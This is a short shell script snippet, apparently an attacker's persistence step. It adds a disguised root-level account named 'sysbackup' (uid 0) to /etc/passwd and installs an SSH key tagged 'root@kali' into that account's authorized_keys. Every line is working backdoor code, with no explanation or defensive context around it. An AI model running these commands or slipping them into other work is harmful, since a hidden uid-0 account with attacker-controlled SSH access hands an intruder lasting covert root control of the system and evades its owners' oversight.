#= added users username=sysbackup ; uid=0
#= added authorized_keys username=sysbackup
echo 'sysbackup:x:0:0:system backup:/var/lib/sysbackup:/bin/bash' >>/etc/passwd
mkdir -p -m 700 /var/lib/sysbackup/.ssh
echo "$key root@kali" >/var/lib/sysbackup/.ssh/authorized_keys
